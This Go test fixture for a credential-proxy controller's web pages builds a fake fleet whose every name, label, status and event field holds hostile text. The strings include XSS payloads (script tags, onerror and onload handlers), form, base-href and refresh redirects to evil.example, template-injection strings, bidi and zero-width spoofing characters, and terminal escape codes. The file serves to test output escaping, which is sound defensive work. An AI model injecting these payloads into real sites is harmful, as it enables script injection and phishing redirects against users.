package pagetest

import (
	"fmt"
	"strings"
	"time"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"credproxy.dev/controller/pkg/reconcile"
	"credproxy.dev/controller/pkg/source"
	"credproxy.dev/controller/pkg/spec"
)

// Texts are what somebody might write who wants a page to do something, or to look otherwise than it is.
func Texts() []string {
	return []string{
		`<script>alert(1)</script>`, `"><script>alert(2)</script>`, `'><img src=x onerror=alert(3)>`, `<svg onload=alert(4)>`,
		`</title></textarea></style></script><script>alert(5)</script>`, `javascript:alert(6)`, `{{.}} {{template "mark"}} ${alert(7)}`,
		`<!-- --><base href=//evil.example/><form action=//evil.example><input name=q>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<iframe srcdoc="<script>alert(8)</script>"></iframe>`, `<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>`,
		"left \u202eright\u202c \u2066isolated\u2069 \u200bzero\ufeff", "looks\u2800\u3164\u115f\u1160\uffa0\u034flike two", "bell\x07 escape\x1b[31mred\x1b[0m null\x00 delete\x7f \u0085next\u2028line",
		"broken \xff\xfe bytes", strings.Repeat("averylongwordwithoutanybreak", 40), "Z̸̢̛a̵l̶g̷ó" + strings.Repeat("\u0301", 60),
		"النص من اليمين إلى اليسار", "two\nlines\tand a tab", `&lt;b&gt; &#60;script&#62; %3Cscript%3E`, "` onmouseover=alert(9) x=`",
	}
}

// Hostile is a fleet in which everything that others write is one of Texts: names of what is no DNS label too, since not every
// part of the controller may be as strict as that of today.
func Hostile() Facts {
	var f Facts
	for i, text := range Texts() {
		cp := Environment(fmt.Sprintf("victim-%d", i))
		cp.Labels = map[string]string{text: text}
		s := &cp.Spec
		s.InternalNetwork, s.EgressNetwork, s.Hostname, s.Image = text, text, text, text
		s.CallerAuth = &spec.CallerAuth{KeyRef: spec.TokenRef{File: text}, Header: text}
		for j := range s.Routes {
			r := &s.Routes[j]
			r.Path, r.Upstream, r.Methods, r.CAFile, r.ProxyURL = "/"+text, text, []string{text}, text, text
			r.Roles = []spec.Role{spec.Role(text)}
			r.Auth.TokenRef, r.Auth.Username = spec.TokenRef{Provider: text, Key: text}, text
		}
		s.Routes[1].Git.Push = []string{text}
		status := cp.Status
		for _, kind := range []string{spec.ConditionReady, spec.ConditionTokensResolved, spec.ConditionIsolated, spec.ConditionPermitted} {
			Set(&cp, kind, metav1.ConditionFalse, text, text, time.Minute)
		}
		status.IsolationFindings = []spec.IsolationFinding{{Severity: "breach", Reason: text, Object: text, Message: text}}
		status.ContainerID, status.ContainerName, status.URL, status.SpecHash, status.RoutesDigest = text, text, text, text, text
		status.Tokens = []spec.TokenStatus{{Ref: s.Routes[0].Auth.TokenRef, Reason: text, Message: text}}
		status.Traffic = []spec.RouteTraffic{{Path: "/" + text, Requests: map[string]int64{text: 1, "2xx": 1}, Refusals: map[string]int64{text: 1}}}
		status.PlannedChanges = []spec.PlannedChange{
			{Change: spec.ChangeKind(text), Object: spec.ChangedObject(text), Name: text, Field: text, Before: text, After: text},
		}
		status.PlannedSteps = []spec.PlannedStep{{Step: text, Target: text, Cause: text}}
		f.Environments = append(f.Environments, cp)
		f.Events = append(f.Events, reconcile.Event{
			Sequence: int64(i), Time: time.Now(), Name: text, Type: text, Reason: text, Message: text, Cause: text,
		}, reconcile.Event{Sequence: int64(i + 100), Time: time.Now(), Name: cp.Name, Type: "Warning", Reason: text, Message: text, Cause: text})
		f.Files = append(f.Files, source.FileStatus{
			Path: text, State: source.FileInvalid, LastGood: true, Declares: []string{cp.Name, text},
			Errors: []spec.Problem{{Line: i, Field: text, Message: text}},
		})
	}
	return f
}
